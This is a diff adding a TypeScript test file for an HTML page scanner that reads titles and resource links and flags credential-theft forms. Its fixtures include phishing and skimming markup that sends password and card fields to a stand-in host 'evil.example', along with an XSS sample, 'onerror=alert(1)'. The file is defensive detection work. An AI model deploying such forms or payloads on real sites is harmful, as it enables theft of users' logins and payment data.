@@ -1,0 +1,61 @@
+import { describe, expect, it } from 'vitest';
+import { scanPage } from './scan-page.ts';
+
+async function scan(html: string, chunkLength = 7) {
+  async function* chunks() {
+    for (let at = 0; at < html.length; at += chunkLength) yield html.slice(at, at + chunkLength);
+  }
+  return scanPage(chunks());
+}
+
+describe('scanPage', () => {
+  it('finds the title, with entities read and spaces folded', async () => {
+    expect((await scan('<head><title>\n Ada &amp;\n the&nbsp;engine </title>')).title).toBe('Ada & the engine');
+  });
+
+  it('takes markup in a title as text', async () => {
+    expect((await scan('<title>&lt;img src=x onerror=alert(1)&gt;</title>')).title).toBe(
+      '<img src=x onerror=alert(1)>',
+    );
+  });
+
+  it('does not take the title of a drawing, nor an empty one', async () => {
+    expect((await scan('<svg><title>Icon</title></svg><title>Page</title>')).title).toBe('Page');
+    expect((await scan('<title> </title><p>x')).title).toBeUndefined();
+    expect((await scan('<p>x')).title).toBeUndefined();
+  });
+
+  it('collects what the page needs to look right', async () => {
+    const { resources } = await scan(
+      '<link rel=stylesheet href=a.css><link rel=canonical href=/me><img src="b.png"><a href=c.html></a><script src=d.js></script>',
+    );
+    expect([...resources]).toEqual(['a.css', 'b.png', 'd.js']);
+  });
+
+  it.each([
+    ['a password sent to another host', '<form action="https://evil.example/"><input type=password></form>'],
+    ['a scheme-relative action', '<form action="//evil.example/"><input type=PASSWORD></form>'],
+    [
+      'a button with its own action',
+      '<form><input type=password><button formaction=https://evil.example>Go</button></form>',
+    ],
+    ['a field that names its form', '<form id=f action=https://evil.example></form><input type=password form=f>'],
+    ['a base that leads away', '<base href=https://evil.example/><form action=login><input type=password></form>'],
+    ['a password on a page with scripts', '<input type=password><script>send()</script>'],
+    ['a handler on the form', '<form onsubmit="send()"><input type=password></form>'],
+    ['a card number', '<form action=https://evil.example><input name=cardnumber></form>'],
+    ['a card by autocomplete', '<form action=https://evil.example><input autocomplete="billing cc-number"></form>'],
+  ])('is suspicious of %s', async (_, html) => {
+    expect((await scan(html)).suspicious).toBe(true);
+  });
+
+  it.each([
+    ['a search form elsewhere', '<form action=https://duckduckgo.com/><input name=q></form>'],
+    ['a password field that goes nowhere', '<form><input type=password></form>'],
+    ['a script alone', '<script>draw()</script><input name=q>'],
+    ['data beside a password field', '<script type=application/ld+json>{}</script><input type=password>'],
+    ['a business card', '<form action=https://x.example><input name=discard><input name=postcard></form>'],
+  ])('is not suspicious of %s', async (_, html) => {
+    expect((await scan(html)).suspicious).toBe(false);
+  });
+});
